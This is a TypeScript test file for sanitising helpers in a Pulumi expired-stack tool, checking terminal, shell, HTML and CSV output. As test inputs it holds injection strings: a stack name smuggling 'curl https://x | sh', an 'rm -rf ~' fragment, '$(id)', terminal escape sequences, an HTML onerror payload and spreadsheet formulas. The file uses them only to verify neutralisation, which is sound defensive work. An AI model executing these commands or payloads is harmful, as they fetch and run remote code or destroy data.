import { describe, expect, it } from "vitest";
import { expiredStacks } from "../../src/expiry/expired-stacks";
import { csvCell } from "../../src/sinks/csv-cell";
import { htmlText } from "../../src/sinks/html-text";
import { shellCommand, shellWord } from "../../src/sinks/shell-command";
import { terminalField, terminalText } from "../../src/sinks/terminal-text";

// One function per place text from an outputs or stack file ends up; exact outputs.
describe("sinks", () => {
  it("terminal: removes CSI, OSC, C1 and bidi controls whole, keeps line breaks (terminalField: not even those)", () => {
    expect(terminalText("\u001b[2J\u001b[1;31mred\u001b[0m \u001b]0;title\u0007ok \u001b]8;;http://x\u001b\\link\u001b]8;;\u001b\\")).toBe("red ok link");
    expect(terminalText("a\u009b31mb\u0085c\u0007d\u007fe\rf")).toBe("abcdef");
    expect(terminalText("abc\u202edcba\u2066x\u2069\u200f")).toBe("abcdcbax");
    expect(terminalText("line 1\nline\t2")).toBe("line 1\nline\t2");
    expect(terminalField("one\nend the bill: rm -rf ~")).toBe("one end the bill: rm -rf ~");
    expect(terminalText("Айгерим")).toBe("Айгерим");
  });

  it("command line: each argument shell-quoted unless it is a plain word", () => {
    expect(shellCommand(["npx", "pulumi", "destroy", "--stack", "org/proj/aigerim.2"])).toBe("npx pulumi destroy --stack org/proj/aigerim.2");
    expect(shellCommand(["npx", "pulumi", "destroy", "--stack", "bolat; curl https://x | sh #"])).toBe("npx pulumi destroy --stack 'bolat; curl https://x | sh #'");
    expect(shellWord("it's $(id)")).toBe(`'it'\\''s $(id)'`);
    expect(shellWord("")).toBe("''");
  });

  it("expired never prints a name that is no stack name as a command", () => {
    const facts = { source: "x.json", stack: "bolat; curl https://x | sh #", expires: "2020-01-01", nodes: [] };
    const { expired } = expiredStacks([facts], "2026-01-01T00:00:00Z");
    expect(expired[0]!.destroy).toBe("npx pulumi destroy --refresh --stack <name> (x.json names no valid stack: see `npx pulumi stack ls`)");
  });

  it("HTML: escapes markup and both quotes", () => {
    expect(htmlText(`<img src=x onerror="a('b')">&`)).toBe("&lt;img src=x onerror=&quot;a(&#39;b&#39;)&quot;&gt;&amp;");
  });

  it("CSV: cells a spreadsheet would run as formulas get a leading ', then RFC 4180 quoting", () => {
    expect(["=1+2", "+1", "-x", "@SUM(A1)", "\t=1", "\r=1", "Bolat", "0.0060", "1.0000"].map(csvCell)).toEqual(["'=1+2", "'+1", "'-x", "'@SUM(A1)", "'\t=1", `"'\r=1"`, "Bolat", "0.0060", "1.0000"]);
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
  });
});
